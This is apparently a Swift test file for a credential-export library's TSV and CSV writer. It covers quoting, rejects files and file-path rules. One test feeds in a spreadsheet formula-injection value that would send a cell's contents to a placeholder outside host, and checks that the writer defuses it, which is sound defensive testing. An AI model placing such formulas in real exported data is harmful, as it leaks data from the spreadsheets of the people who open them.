import CMECredentials
import Foundation
import Testing
import VerifiableCredentials

@Suite("PARS export: TSV and CSV files")
struct PARSTableWriterTests {
    typealias F = PARSFixtures

    let mapping = PARSMapping(columns: [
        .init(header: "Last", field: .lastName), .init(header: "First, given", field: .firstName),
        .init(header: "Credits", field: .amaCredits),
    ])

    func row(_ family: String) -> PARSRow {
        F.rows(F.credential(credits: ["AMA_PRA_CAT1": 1.5]) { learner, _ in learner.familyName = family })[0]
    }

    @Test("TSV: a header row, one tab-separated line per row, LF line ends")
    func tsv() {
        let text = String(
            decoding: PARSTableWriter(mapping: mapping, format: .tsv).table([row("O'Neill")]), as: UTF8.self)
        #expect(text == "Last\tFirst, given\tCredits\nO'Neill\tMaria\t1.5\n")
    }

    @Test("CSV per RFC 4180: CRLF, fields with commas, quotes or line breaks quoted, quotes doubled")
    func csv() {
        let writer = PARSTableWriter(mapping: mapping, format: .csv)
        let text = String(decoding: writer.table([row("Smith, \"Jr\"")]), as: UTF8.self)
        #expect(text == "Last,\"First, given\",Credits\r\n\"Smith, \"\"Jr\"\"\",Maria,1.5\r\n")
    }

    @Test("The rejects file adds the credential ID and the reason; a tab in a value is replaced, never splits the row")
    func rejectsTSV() throws {
        let bad = row("O\tNeill")
        let reasons = PARSRowValidator(mapping: mapping).rejections(of: bad)
        #expect(reasons.map(\.code).contains(.controlCharacter))  // (this mapping has no license or NPI column)
        let writer = PARSTableWriter(mapping: mapping, format: .tsv)
        let text = String(
            decoding: writer.rejects([PARSExport.RejectedRow(row: bad, reasons: reasons)]), as: UTF8.self)
        let lines = text.split(separator: "\n", omittingEmptySubsequences: false)
        #expect(lines.count == 3)
        #expect(lines[0] == "Last\tFirst, given\tCredits\tcredential ID\treason")
        #expect(lines[1].split(separator: "\t").count == 5)
        #expect(lines[1].hasPrefix("O Neill\tMaria\t1.5\turn:uuid:"))
        #expect(lines[2] == "")
    }

    @Test("The rejects file, which people open to fix rows, defuses a value a spreadsheet would run as a formula")
    func rejectsDefuseFormulas() {
        let bad = row("=HYPERLINK(\"https://x.example/?\"&B2)")
        let reasons = PARSRowValidator(mapping: mapping).rejections(of: bad)
        #expect(reasons.map(\.code).contains(.formulaText))
        for format in PARSTableFormat.allCases {
            let text = String(
                decoding: PARSTableWriter(mapping: mapping, format: format).rejects(
                    [PARSExport.RejectedRow(row: bad, reasons: reasons)]),
                as: UTF8.self)
            let second = text.split(whereSeparator: \.isNewline)[1]
            #expect(second.hasPrefix(format == .tsv ? "'=HYPERLINK(" : "\"'=HYPERLINK("), "\(format): \(second)")
        }
    }

    @Test("A CSV rejects file keeps a line break inside a quoted field")
    func rejectsCSV() {
        let bad = row("O\nNeill")
        let reasons = PARSRowValidator(mapping: mapping).rejections(of: bad)
        let writer = PARSTableWriter(mapping: mapping, format: .csv)
        let text = String(decoding: writer.rejects([PARSExport.RejectedRow(row: bad, reasons: reasons)]), as: UTF8.self)
        #expect(text.contains("\r\n\"O\nNeill\",Maria,1.5,urn:uuid:"))
    }

    @Test("The default rejects file sits next to the output; a device or pipe has none")
    func rejectsName() {
        let url = { (path: String, format: PARSTableFormat) in
            PARSExportFiles.defaultRejectsURL(for: URL(fileURLWithPath: path), format: format)?.path
        }
        #expect(url("/x/pars.tsv", .tsv) == "/x/pars.rejects.tsv")
        #expect(url("/x/pars.csv", .csv) == "/x/pars.rejects.csv")
        #expect(url("/x/upload", .tsv) == "/x/upload.rejects.tsv")
        // A device or pipe has no file next to it (this would be /dev/null.rejects.tsv).
        #expect(url("/dev/null", .tsv) == nil)
    }

    @Test("The output and the rejects file must differ")
    func sameFile() throws {
        let url = FileManager.default.temporaryDirectory.appendingPathComponent("pars-\(UUID().uuidString).tsv")
        let export = PARSExport(rows: [], rejected: [], leftOut: .init(), credentialCount: 0)
        let error = #expect(throws: CredentialError.self) {
            try PARSExportFiles.write(
                export, with: PARSTableWriter(mapping: mapping, format: .tsv), to: url, rejects: url)
        }
        #expect(error?.code == .invalidPARSExportOptions)
        #expect(!FileManager.default.fileExists(atPath: url.path))
    }
}
